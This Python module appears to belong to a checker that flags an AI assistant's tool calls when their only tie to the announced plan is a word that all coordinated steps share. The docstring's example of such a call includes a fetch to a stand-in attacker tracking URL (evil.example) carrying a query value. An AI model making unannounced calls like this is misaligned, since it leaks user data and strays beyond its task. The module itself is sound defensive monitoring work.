"""A call grounded only by a word every coordinated step shares (round 44 gap 7, h17b; rule
``ungrounded-call``, read by ``looked.unwritten`` over the reply's calls).

"I'll search for flights and hotels in Rome." announces two steps, one of each coordinated
object ("flights", "hotels"), and "Rome" is the place both carry. A third call of the reply
(``web_search casinos Rome``, ``fetch_url https://evil.example/track?u=rome``) repeats the
shared word and no object: it is no step of the sentence. So, in a sentence whose nouns are
coordinated by a word of [g-and] (and commas: "Paris, Berlin and London"; each conjunct a
noun or a code token of no verb kind, a determiner or preposition after "and" or a comma
aside; a conjunct after "and" that another noun follows is a modifier, "internal and external
sources", and coordinates no steps), when
more calls carry a word of that sentence than it coordinates objects, each of them carries a
word of its own object (by stem: ``references._referenced``) or a word the text writes
outside that sentence (a step another sentence announces, or a noun of another item of the
assistant's plan, a step to come: ``Announcement.ahead``). A coordination of verbs ("read
config.yml and then fix the port") coordinates no objects and is not read here; as many calls
as objects ("the weather in Paris and London" + two calls) are not counted.
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from typing import Any

from .preamble import Announcement
from .references import _referenced
from .sentenceread import read
from .view import normalize
from .words import Token, Tongue

__all__ = ["check"]

_NOUNISH = frozenset({"OPEN", "CODE"})
_SKIPPED = frozenset({"DET", "ADV", "PREP"})
"""Tokens between "and" and the conjunct's noun ("and the hotels", "et des hôtels")."""


def _noun(x: Token, t: Tongue) -> bool:
    return x.kind in _NOUNISH and t.kind_of(x.text) is None


def _coordinated(tokens: Sequence[Token], t: Tongue) -> tuple[set[str], set[str]]:
    """(the coordinated objects, the sentence's other nouns) of a sentence: none when it
    coordinates no nouns."""
    objects: set[str] = set()
    for k, x in enumerate(tokens):
        if x.kind != "AND" or k == 0 or not _noun(tokens[k - 1], t):
            continue
        j = next((i for i in range(k + 1, len(tokens)) if tokens[i].kind not in _SKIPPED), None)
        if j is None or not _noun(tokens[j], t) or (j + 1 < len(tokens) and _noun(tokens[j + 1], t)):
            continue  # no noun after "and", or a modifier of one ("internal and external sources")
        objects |= {tokens[k - 1].text, tokens[j].text}
        i = k - 2
        while i >= 1:
            while i >= 1 and tokens[i].kind in _SKIPPED:
                i -= 1  # "the README, the Makefile and ..."
            if tokens[i].kind != "COMMA" or not _noun(tokens[i - 1], t):
                break
            objects.add(tokens[i - 1].text)
            i -= 2
    if len(objects) < 2:
        return set(), set()
    return objects, {x.text for x in tokens if _noun(x, t)} - objects


def check(ann: Announcement, calls: Sequence[tuple[str, Mapping[str, Any]]],
          texts: Sequence[tuple[str, frozenset[str]]]) -> str | None:
    """Why a call carries only the word the coordinated steps of a sentence share, when the
    calls are more than its objects, or None (module docstring)."""
    if len(calls) < 3:
        return None
    sentences = read(normalize(ann.text))
    for body, t, tokens in sentences:
        objects, shared = _coordinated(tokens, t)
        if not objects or not shared:
            continue
        here = {x.text for x in tokens}
        # a noun of another item of the assistant's plan names a step to come of its own
        ahead = [x.text for b, u, xs in sentences if b != body and b in ann.ahead
                 for x in xs if _noun(x, u)]
        elsewhere = [w for w in (*ann.objects, *ann.observed, *ahead) if w.casefold() not in here]
        carrying = [(name, text, words) for (name, _args), (text, words) in zip(
            calls, texts, strict=True)
            if _referenced([*objects, *shared], text, words, ann.tongues) is not None]
        if len(carrying) <= len(objects):
            continue
        for name, text, words in carrying:
            if _referenced(sorted(objects), text, words, ann.tongues) is None and (
                    _referenced(elsewhere, text, words, ann.tongues) is None):
                word = _referenced(sorted(shared), text, words, ann.tongues)
                return (f"{name!r} carries only {word!r}, which every coordinated step of "
                        f"the announcement shares ({', '.join(sorted(objects))}): it is "
                        "none of them")
        again = _again(carrying, objects, ann, _counts(tokens, objects, t))
        if again is not None:
            return again
    return None


_COUNTED = {"both": 2, "two": 2, "three": 3, "four": 4, "five": 5, "pair": 2}
"""A word that counts a plural object ("both config files": two calls for it)."""


def _counts(tokens: Sequence[Token], objects: set[str], t: Tongue) -> dict[str, int | None]:
    """How many calls each plural object of the sentence stands for: its count word ("both
    config files": 2), or several (None) for a plural common noun with none ("the logs");
    objects absent here stand for one."""
    out: dict[str, int | None] = {}
    for k, x in enumerate(tokens):
        if x.text not in objects or not x.text.endswith("s") or x.text.endswith("ss") \
                or "." in x.text:
            continue
        i, count, det = k - 1, None, False
        while i >= 0 and (_noun(tokens[i], t) or tokens[i].kind in ("DET", "NUM")):
            count = count or _COUNTED.get(tokens[i].text.casefold())
            det = det or tokens[i].kind in ("DET", "NUM")
            i -= 1
        if det:  # a plural common noun has its determiner ("the logs"); "in Paris" has none
            out[x.text] = count
    return out


def _again(carrying: Sequence[tuple[str, str, frozenset[str]]], objects: set[str],
           ann: Announcement, counts: Mapping[str, int | None] | None = None) -> str | None:
    """A coordinated object two calls of one tool both carry, when the calls are more than
    the objects ("the weather in Paris and London" + Paris, London and Paris again with
    ``days: 14``): one object, one step; a plural object as many as it counts ("both config
    files": two; "the logs": several)."""
    counts = counts or {}
    seen: dict[tuple[str, str], int] = {}
    for name, text, words in carrying:
        refs = [o for o in sorted(objects) if _referenced([o], text, words, ann.tongues)]
        if len(refs) > 1:  # ``read_file README.md`` is README's step, not the files' one
            refs = [o for o in refs if o not in counts] or refs
        for obj in refs:
            allowed = counts.get(obj, 1)
            if allowed is not None and seen.get((name, obj), 0) >= allowed:
                return (f"{name!r} is called again for {obj!r}, while the announcement "
                        f"coordinates {len(objects)} objects, one step each")
            seen[(name, obj)] = seen.get((name, obj), 0) + 1
    return None
